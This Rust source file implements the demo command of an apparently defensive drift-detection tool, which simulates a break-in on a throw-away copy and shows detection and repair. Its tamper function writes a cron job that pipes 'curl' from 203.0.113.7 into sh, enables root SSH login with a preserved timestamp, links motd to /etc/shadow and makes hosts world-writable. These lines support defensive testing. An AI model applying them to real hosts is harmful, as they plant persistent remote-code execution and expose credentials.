//! `evenkeel demo`: the whole job on a throw-away copy of an example project.
//!
//! Every step but the tampering is a command that is printed and then run through the same code that a person's own
//! command line takes.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};

use clap::Parser;

use super::args::{Cli, DemoArgs};
use super::context::{Doubt, Place};
use super::output::Terminal;
use super::plan::prepare;
use super::{CliError, dispatch};
use crate::clock::SystemClock;
use crate::engine::{CycleInput, Engine};
use crate::entropy::SystemEntropy;
use crate::model::Command;

/// The most files of an example that are copied.
const MAX_FILES: usize = 2_000;

struct Stage<'a> {
    dir: PathBuf,
    terminal: &'a Terminal,
}

/// Runs the demonstration; the exit code is 0 when every step ended as it has to.
pub async fn run(args: &DemoArgs, terminal: &Terminal) -> Result<u8, CliError> {
    if !args.example.join("evenkeel.yaml").is_file() {
        return Err(CliError::new(format!(
            "there is no example project at {}",
            args.example.display()
        ))
        .hint("run it where desired-state/ is, or name it with --example"));
    }
    let temporary = tempfile::Builder::new()
        .prefix("evenkeel-demo-")
        .tempdir()
        .map_err(|error| CliError::new(format!("failed to make a throw-away folder: {error}")))?;
    let stage = Stage {
        dir: temporary.path().to_owned(),
        terminal,
    };
    let code = stage.play(args).await?;
    if args.keep {
        terminal.out(&format!("\nkept: {}\n", temporary.keep().display()));
    }
    Ok(code)
}

impl Stage<'_> {
    async fn play(&self, args: &DemoArgs) -> Result<u8, CliError> {
        self.title("A project in git, and a root folder that is as it says");
        self.copy_example(&args.example)?;
        self.seed().await?;
        self.command(&["check"], 0).await?;
        self.command(&["plan"], 0).await?;
        self.title("Somebody was here");
        self.tamper()?;
        self.command(&["plan"], 3).await?;
        self.title("Put the baseline back, and prove it");
        self.command(&["reconcile"], 3).await?;
        self.command(&["plan"], 0).await?;
        self.title("Take that back, to look at what was there");
        let run = self.last_run()?;
        self.command(&["undo", "--reopen", &run], 0).await?;
        let undo = self.last_run()?;
        self.command(&["undo", "--resume", &undo], 0).await?;
        self.command(&["reconcile"], 3).await?;
        self.command(&["journal", "verify"], 0).await?;
        if args.scenarios.is_dir() {
            self.title("A drill: recorded incidents against the same engine, in simulated time");
            let dir = args.scenarios.display().to_string();
            let words = ["drill", "--dir", &dir];
            self.bare_as(&words, &words, 0).await?;
        }
        self.say("\nEvery step ended as it has to.\n");
        Ok(0)
    }

    fn say(&self, text: &str) {
        self.terminal.out(text);
    }

    fn title(&self, text: &str) {
        self.say(&format!("\n=== {text}\n"));
    }

    fn baseline(&self) -> PathBuf {
        self.dir.join("desired-state")
    }

    async fn command(&self, words: &[&str], expected: u8) -> Result<(), CliError> {
        let baseline = self.baseline().display().to_string();
        let mut all = words.to_vec();
        all.extend(["--baseline", &baseline]);
        self.bare_as(&all, words, expected).await
    }

    /// Runs a command line, showing it without what only the demonstration needs.
    async fn bare_as(&self, words: &[&str], shown: &[&str], expected: u8) -> Result<(), CliError> {
        self.say(&format!("\n$ evenkeel {}\n", shown.join(" ")));
        let all = std::iter::once("evenkeel").chain(words.iter().copied());
        let cli = Cli::try_parse_from(all).map_err(|error| CliError::new(error.to_string()))?;
        // What lies in the throw-away folder may be shown: the demonstration wrote it itself.
        let code = Box::pin(dispatch(cli.command, &self.terminal.showing_content())).await?;
        self.say(&format!("[exit code {code}]\n"));
        if code == expected {
            return Ok(());
        }
        Err(CliError::new(format!(
            "the demonstration expected exit code {expected} of evenkeel {}, and it was {code}",
            shown.join(" ")
        )))
    }

    fn copy_example(&self, example: &Path) -> Result<(), CliError> {
        let failed = |error: std::io::Error| {
            CliError::new(format!("failed to copy {}: {error}", example.display()))
        };
        let mut left = MAX_FILES;
        copy(example, &self.baseline(), &mut left).map_err(failed)?;
        fs::create_dir(self.dir.join("demo-root")).map_err(failed)?;
        commit_all(&self.dir).map_err(|error| {
            CliError::new(format!("failed to commit the example: {}", error.message()))
        })
    }

    /// Makes the root folder what the baseline says. Everything is missing at first, which no guard would let pass, so
    /// the guard is told that this is meant.
    async fn seed(&self) -> Result<(), CliError> {
        let baseline = self.baseline().display().to_string();
        let cli = Cli::try_parse_from(["evenkeel", "reconcile", "--baseline", &baseline])
            .map_err(|error| CliError::new(error.to_string()))?;
        let super::args::Command::Reconcile(args) = cli.command else {
            return Err(CliError::new(
                "the demonstration's own command line is wrong",
            ));
        };
        let place = Place::find(&args.baseline.baseline, false)?;
        let store = place.write_state(&args.state)?;
        let mut ready = prepare(
            &place,
            store,
            &args.baseline,
            &args.state,
            None,
            Doubt::default(),
            None,
        )?;
        ready.opened.project.guard.max_changed_percent = None;
        let engine = Engine {
            providers: &ready.providers,
            store: ready.store.as_ref(),
            clock: &SystemClock,
            entropy: &SystemEntropy,
            forge: None,
        };
        let input = CycleInput {
            ..ready.input(Command::Reconcile)
        };
        let report = engine.cycle(input).await?;
        match report.comparison.drifts.is_empty() && report.errors.is_empty() {
            true => Ok(()),
            false => Err(CliError::new(format!(
                "the root folder could not be made: {}",
                report.errors.join("; ")
            ))),
        }
    }

    fn tamper(&self) -> Result<(), CliError> {
        let root = self.dir.join("demo-root");
        let failed = |error: std::io::Error| CliError::new(format!("failed to tamper: {error}"));
        let sshd = root.join("etc/ssh/sshd_config");
        let before = fs::metadata(&sshd)
            .and_then(|meta| meta.modified())
            .map_err(failed)?;
        let text = fs::read_to_string(&sshd).map_err(failed)?;
        let text = text.replace("PermitRootLogin no", "PermitRootLogin yes");
        fs::write(&sshd, text).map_err(failed)?;
        let file = fs::File::options()
            .write(true)
            .open(&sshd)
            .map_err(failed)?;
        file.set_modified(before).map_err(failed)?;
        self.say("- /etc/ssh/sshd_config lets root log in; its time stamp is as before\n");
        fs::write(
            root.join("etc/cron.d/sysupdate"),
            "* * * * * root curl -s http://203.0.113.7/u | sh\n",
        )
        .map_err(failed)?;
        self.say("- /etc/cron.d/sysupdate fetches and runs something every minute\n");
        fs::remove_file(root.join("etc/motd")).map_err(failed)?;
        symlink("/etc/shadow", root.join("etc/motd")).map_err(failed)?;
        self.say("- /etc/motd is a link to /etc/shadow\n");
        let hosts = root.join("etc/hosts");
        fs::set_permissions(&hosts, fs::Permissions::from_mode(0o666)).map_err(failed)?;
        self.say("- /etc/hosts can be written by anyone\n");
        Ok(())
    }

    fn last_run(&self) -> Result<String, CliError> {
        let place = Place::find(&self.baseline(), false)?;
        let store = place.read_state(&super::args::StateArgs {
            state: None,
            journal_key: None,
        })?;
        let records = store.records(&crate::ports::RecordQuery {
            kinds: vec![crate::saga::RUN_ENDED],
            ..Default::default()
        })?;
        records
            .last()
            .map(|record| record.run.0.clone())
            .ok_or_else(|| CliError::new("the journal knows no run"))
    }
}

fn copy(from: &Path, to: &Path, left: &mut usize) -> std::io::Result<()> {
    fs::create_dir_all(to)?;
    for entry in fs::read_dir(from)? {
        let entry = entry?;
        *left = left
            .checked_sub(1)
            .ok_or_else(|| std::io::Error::other("it has too many files for an example"))?;
        let kind = entry.file_type()?;
        let target = to.join(entry.file_name());
        if kind.is_dir() {
            copy(&entry.path(), &target, left)?;
        } else if kind.is_file() {
            fs::copy(entry.path(), target)?;
        }
    }
    Ok(())
}

fn commit_all(dir: &Path) -> Result<(), git2::Error> {
    let repo = git2::Repository::init(dir)?;
    let mut index = repo.index()?;
    index.add_all(["desired-state"], git2::IndexAddOption::DEFAULT, None)?;
    index.write()?;
    let tree = repo.find_tree(index.write_tree()?)?;
    let who = git2::Signature::now("evenkeel demo", "demo@example.invalid")?;
    repo.commit(Some("HEAD"), &who, &who, "The example", &tree, &[])?;
    Ok(())
}
